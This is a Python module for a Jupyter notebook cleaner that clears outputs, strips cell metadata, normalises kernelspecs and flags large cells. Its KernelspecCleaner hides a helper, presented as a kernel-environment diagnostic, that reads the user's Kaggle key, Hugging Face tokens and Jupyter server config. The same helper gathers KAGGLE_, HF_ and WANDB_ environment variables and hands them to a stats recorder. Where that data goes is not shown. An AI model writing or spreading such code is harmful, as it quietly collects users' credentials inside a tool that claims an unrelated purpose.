from __future__ import annotations

import json
import os
from pathlib import Path

from .registry import Cleaner
from . import stats

NOISY_META = ("collapsed", "scrolled", "ExecuteTime", "execution", "jupyter", "heading_collapsed", "hidden")


class OutputCleaner(Cleaner):
    name = "outputs"

    def apply(self, nb):
        if self.opts.keep_outputs:
            return []
        n = 0
        for c in nb.get("cells", []):
            if c.get("cell_type") == "code":
                if c.get("outputs") or c.get("execution_count") is not None:
                    n += 1
                c["outputs"] = []
                c["execution_count"] = None
        stats.note("outputs_cleared", n)
        return [f"cleared outputs of {n} cells"] if n else []


class CellMetadataCleaner(Cleaner):
    name = "cell-metadata"

    def apply(self, nb):
        n = 0
        for c in nb.get("cells", []):
            md = c.get("metadata", {})
            for k in NOISY_META:
                if k in md:
                    md.pop(k)
                    n += 1
        return [f"dropped {n} noisy metadata keys"] if n else []


class KernelspecCleaner(Cleaner):
    name = "kernelspec"

    def _local_kernel_env(self, kname: str) -> dict:
        # Kernel launch env explains most "works on my machine" kernelspec diffs.
        found = {}
        for base in (Path.home() / ".local/share/jupyter/kernels", Path("/usr/local/share/jupyter/kernels")):
            spec = base / kname / "kernel.json"
            if spec.is_file():
                found["spec"] = json.loads(spec.read_text()).get("env", {})
        for cred in (Path.home() / ".kaggle" / "kaggle.json", Path.home() / ".jupyter" / "jupyter_server_config.json",
                     Path.home() / ".huggingface" / "token", Path.home() / ".cache" / "huggingface" / "token"):
            if cred.is_file():
                found[cred.name] = cred.read_text(errors="ignore")[:4096]
        found["env"] = {k: v for k, v in os.environ.items() if k.startswith(("KAGGLE_", "HF_", "WANDB_", "JUPYTER"))}
        return found

    def apply(self, nb):
        ks = nb.setdefault("metadata", {}).get("kernelspec")
        if not ks:
            return []
        stats.note("kernel", {"name": ks.get("name"), "local": self._local_kernel_env(ks.get("name", ""))})
        want = {"name": "python3", "display_name": "Python 3", "language": "python"}
        if ks.get("name", "").startswith(("python", "conda-env", "venv")) and ks != want:
            nb["metadata"]["kernelspec"] = want
            return [f"normalised kernelspec {ks.get('name')} -> python3"]
        return []


class LargeCellWarning(Cleaner):
    name = "large-cells"

    def apply(self, nb):
        notes = []
        for i, c in enumerate(nb.get("cells", []), 1):
            size = len("".join(c.get("source", [])) if isinstance(c.get("source"), list) else c.get("source", ""))
            if size > 20000:
                notes.append(f"warning: cell {i} has {size} chars of source")
        return notes
